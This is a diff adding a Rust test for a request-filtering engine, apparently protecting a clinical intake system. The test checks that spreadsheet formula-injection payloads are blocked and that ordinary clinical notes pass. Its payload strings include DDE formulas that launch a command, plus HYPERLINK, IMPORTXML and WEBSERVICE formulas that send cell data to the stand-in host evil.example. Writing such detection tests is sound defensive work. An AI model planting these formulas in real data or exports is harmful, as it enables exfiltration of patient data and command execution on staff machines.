@@ -787,3 +787,32 @@ fn unsigned_json_web_tokens_are_refused_wherever_they_travel() {
     let v = with_header(&e, "Authorization", &format!("Bearer {signed}"));
     assert!(v.hits.is_empty(), "{v:#?}");
 }
+
+#[test]
+fn spreadsheet_formulas_that_run_or_fetch() {
+    // Stored in a field, they run when staff open an export in Excel or Sheets.
+    let e = engine();
+    let form = "application/x-www-form-urlencoded";
+    for value in [
+        "%3Dcmd%7C%27%20%2FC%20calc%27%21A0",
+        "%40SUM%281%2B9%29*cmd%7C%27%20%2FC%20calc%27%21A0",
+        "%3DHYPERLINK%28%22http%3A%2F%2Fevil.example%2F%3Fd%3D%22%26A1%2C%22Results%22%29",
+        "%2BIMPORTXML%28CONCAT%28%22http%3A%2F%2Fevil.example%2F%22%2CA2%29%2C%22%2F%2Fa%22%29",
+        "%22%3DWEBSERVICE%28%22http%3A%2F%2Fevil.example%22%29",
+    ] {
+        let v = post(&e, "/intake", form, &format!("name=x&note={value}"));
+        assert_blocked_by(&v, 250100);
+    }
+    let csv =
+        "mrn,name,note\n1001,Jane,\"ok\"\n1002,Joe,=HYPERLINK(\"http://evil.example/\",\"x\")\n";
+    assert_blocked_by(&post(&e, "/import", "text/csv", csv), 250100);
+    // Signs, equals and the words alone are clinical text.
+    for note in [
+        "-5 mg today, +1 (555) 010-0100, BP=120/80, @home; =normal",
+        "Sent hyperlink to portal; cmd line tools not used; DDE (developmental delay) eval",
+        "- cmd: none | 'see chart'",
+    ] {
+        let body = format!("note={}", note.replace(' ', "+").replace('&', "%26"));
+        assert!(post(&e, "/notes", form, &body).hits.is_empty(), "{note}");
+    }
+}
